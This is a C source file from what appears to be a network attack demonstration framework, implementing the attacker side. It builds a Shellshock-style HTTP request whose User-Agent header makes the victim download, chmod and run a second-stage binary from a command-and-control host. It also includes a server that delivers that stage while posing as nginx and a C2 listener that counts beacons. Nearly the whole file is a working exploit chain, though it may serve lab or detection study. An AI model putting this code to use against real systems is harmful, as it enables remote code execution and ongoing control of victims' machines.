/* part_attack.c - the attacker: one request that runs a command, a server for the second stage, a listener for it. */
#include "demo/demo.h"
#include "demo/parts_internal.h"

#include "util/clock.h"
#include "util/scope.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CLIENTS_MAX = 32 };

static bool address_of(const char *text, int port, struct sockaddr_in *ret)
{
    *ret = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    return !text || inet_pton(AF_INET, text, &ret->sin_addr) == 1;
}

int mmr_part_connect(const char *source, const char *address, int port, int timeout_ms)
{
    struct sockaddr_in from, to;
    int bad = 0;
    socklen_t len = sizeof bad;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (s < 0 || !address_of(address, port, &to) || !address_of(source, 0, &from) ||
        (source && bind(s, (struct sockaddr *)&from, sizeof from) != 0))
        goto fail;
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0) {
        struct pollfd p = {.fd = s, .events = POLLOUT};
        if (errno != EINPROGRESS || poll(&p, 1, timeout_ms) != 1 || getsockopt(s, SOL_SOCKET, SO_ERROR, &bad, &len) != 0 || bad)
            goto fail;
    }
    (void)fcntl(s, F_SETFL, 0);
    return s;
fail:
    if (s >= 0)
        (void)close(s);
    return -1;
}

int mmr_part_listen(const char *address, int port)
{
    struct sockaddr_in at;
    int one = 1, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s >= 0 && address_of(address, port, &at) && setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) == 0 &&
        bind(s, (struct sockaddr *)&at, sizeof at) == 0 && listen(s, 32) == 0)
        return s;
    if (s >= 0)
        (void)close(s);
    return -1;
}

int mmr_part_exploit(const struct mmr_machine *m, void *arg)
{
    const struct mmr_part_exploit *x = arg;
    char request[2048], answer[256];
    (void)m;
    int n = snprintf(request, sizeof request,
                     "GET /cgi-bin/stock?item=12 HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: () { :;}; "
                     "/opt/stocklist/stocklist-get " MMR_DEMO_C2 " %d /sysupd " MMR_DEMO_STAGE " && chmod 755 " MMR_DEMO_STAGE " && "
                     MMR_DEMO_STAGE " " MMR_DEMO_C2 " %d " MMR_DEMO_ENTRY " &\r\nAccept: */*\r\n\r\n",
                     x->victim, MMR_DEMO_WEB_PORT, MMR_DEMO_STAGE_PORT, MMR_DEMO_C2_PORT);
    atomic_store(&x->view->first_ns, mmr_clock_wall_ns());
    mmr_autoclose int s = mmr_part_connect(MMR_DEMO_ATTACKER, x->victim, MMR_DEMO_WEB_PORT, 2000);
    if (s < 0 || send(s, request, (size_t)n, MSG_NOSIGNAL) != n)
        return 1;
    struct pollfd p = {.fd = s, .events = POLLIN};
    (void)poll(&p, 1, 1500);
    (void)recv(s, answer, sizeof answer, MSG_DONTWAIT);
    return 0;
}

/* ---- the server at the other end ---- */

static void send_stage(struct mmr_demo_view *v, int c)
{
    char head[256], request[1024];
    const struct timeval limit = {.tv_sec = 1};
    size_t len = (size_t)(mmr_demo_actor_end - mmr_demo_actor);
    (void)setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    (void)setsockopt(c, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    size_t got = 0;
    for (ssize_t k; got < sizeof request - 1 && (k = recv(c, request + got, sizeof request - 1 - got, 0)) > 0;) {
        got += (size_t)k;
        request[got] = '\0';
        if (strstr(request, "\r\n\r\n"))
            break;
    }
    if (!got)
        return;
    int n = snprintf(head, sizeof head, "HTTP/1.0 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\nContent-Length: %zu\r\n\r\n", len);
    if (send(c, head, (size_t)n, MSG_NOSIGNAL) != n)
        return;
    for (size_t at = 0; at < len;) {
        ssize_t k = send(c, mmr_demo_actor + at, len - at, MSG_NOSIGNAL);
        if (k <= 0)
            return;
        at += (size_t)k;
    }
    atomic_store(&v->stage_ns, mmr_clock_wall_ns());
}

int mmr_part_c2(const struct mmr_machine *m, void *arg)
{
    struct mmr_demo_view *v = arg;
    struct pollfd p[2 + CLIENTS_MAX];
    nfds_t n = 2;
    (void)m;
    p[0] = (struct pollfd){.fd = mmr_part_listen(MMR_DEMO_C2, MMR_DEMO_STAGE_PORT), .events = POLLIN};
    p[1] = (struct pollfd){.fd = mmr_part_listen(MMR_DEMO_C2, MMR_DEMO_C2_PORT), .events = POLLIN};
    if (p[0].fd < 0 || p[1].fd < 0)
        return 3;
    while (poll(p, n, -1) > 0) {
        if (p[0].revents) {
            mmr_autoclose int c = accept4(p[0].fd, NULL, NULL, SOCK_CLOEXEC);
            if (c >= 0)
                send_stage(v, c);
        }
        for (nfds_t i = n; i-- > 2;) {
            char text[256];
            if (!p[i].revents)
                continue;
            if (recv(p[i].fd, text, sizeof text, MSG_DONTWAIT) > 0) {
                atomic_store(&v->beat_ns, mmr_clock_wall_ns());
                atomic_fetch_add(&v->beats, 1);
            } else {
                (void)close(p[i].fd);
                p[i] = p[--n];
            }
        }
        if (p[1].revents) {
            int c = accept4(p[1].fd, NULL, NULL, SOCK_CLOEXEC), one = 1;
            if (c >= 0 && n == 2 + CLIENTS_MAX) {
                (void)close(c);
            } else if (c >= 0) {
                int64_t never = 0;
                (void)setsockopt(c, SOL_SOCKET, SO_KEEPALIVE, &one, sizeof one);
                (void)atomic_compare_exchange_strong(&v->called_ns, &never, mmr_clock_wall_ns());
                p[n++] = (struct pollfd){.fd = c, .events = POLLIN};
            }
        }
    }
    return 0;
}

int mmr_part_printer(const struct mmr_machine *m, void *arg)
{
    (void)arg;
    mmr_autoclose int s = mmr_part_listen(m->ip, MMR_DEMO_PRINT_PORT);
    if (s < 0)
        return 3;
    for (;;) {
        int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        if (c >= 0)
            (void)close(c);
    }
}
